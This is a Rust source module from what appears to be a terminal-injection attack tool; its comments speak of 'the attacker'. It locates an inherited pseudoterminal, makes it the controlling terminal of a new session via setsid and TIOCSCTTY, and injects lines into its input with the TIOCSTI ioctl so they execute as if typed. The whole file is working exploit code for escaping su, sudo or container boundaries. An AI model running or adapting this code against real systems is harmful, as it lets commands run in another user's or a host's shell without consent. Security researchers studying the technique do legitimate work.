//! The terminal that the attacker has inherited.

use super::look::{is_pseudoterminal, look};
use super::{Inside, child};
use nix::errno::Errno;
use nix::fcntl::OFlag;
use nix::libc;
use nix::sys::stat::{fstat, makedev};
use nix::unistd::{Pid, getpid, getsid, isatty, setpgid, setsid};
use std::os::fd::{BorrowedFd, IntoRawFd, RawFd};

/// Its descriptor: a standard stream, else the controlling terminal; else standard error, whatever that is. Never a
/// console of the machine's, which a container may have put there: what is pushed into its input is typed on the machine.
///
/// # Errors
/// It is such a one: nothing is tried then.
pub fn inherited(me: &mut Inside) -> Result<RawFd, Errno> {
    // SAFETY: a number that is not open is refused.
    let stream = |fd: RawFd| unsafe { BorrowedFd::borrow_raw(fd) };
    let terminal = [2, 0, 1].into_iter().find(|fd| isatty(stream(*fd)).unwrap_or(false));
    let Some(terminal) = terminal else {
        let found = look("/dev/tty");
        // Device 5:0 is whoever's own (tty(4)).
        if found.is_device_but(|is_block, number| !is_block && number == makedev(5, 0)) {
            return Err(me.give_up("/dev/tty is another device than one's own terminal"));
        }
        return Ok(found.open(OFlag::O_RDWR).map_or(2, IntoRawFd::into_raw_fd));
    };
    match fstat(stream(terminal)) {
        Ok(status) if is_pseudoterminal(status.st_rdev) || status.st_rdev == makedev(5, 0) => Ok(terminal),
        _ => Err(me.give_up("the terminal is no pseudoterminal: it may be a console of the machine's")),
    }
}

/// Makes it the controlling terminal of a session of the attacker's own.
pub fn take(terminal: RawFd) -> Result<(), Errno> {
    let own = getpid();
    if setsid().is_err() && getsid(None)? != own {
        // The leader of a process group can't leave it, but join another one first (setsid(2)).
        let other = child::waiting()?;
        setpgid(other, other)?;
        setpgid(Pid::from_raw(0), other)?;
        setsid()?;
    }
    // SAFETY: an ioctl that takes an integer.
    Errno::result(unsafe { libc::ioctl(terminal, libc::TIOCSCTTY, 0) }).map(drop)
}

/// Pushes a line into its input, as if it had been typed (TIOCSTI, ioctl_tty(2)). `request` is TIOCSTI, as far
/// as the kernel looks at it.
pub fn type_line(terminal: RawFd, request: u64, line: &str) -> Result<(), Errno> {
    for byte in line.bytes().chain([b'\n']) {
        // SAFETY: the ioctl reads one byte. Not ioctl(3): some C libraries cut the request to 32 bits.
        Errno::result(unsafe { libc::syscall(libc::SYS_ioctl, terminal, request, &raw const byte) })?;
    }
    Ok(())
}
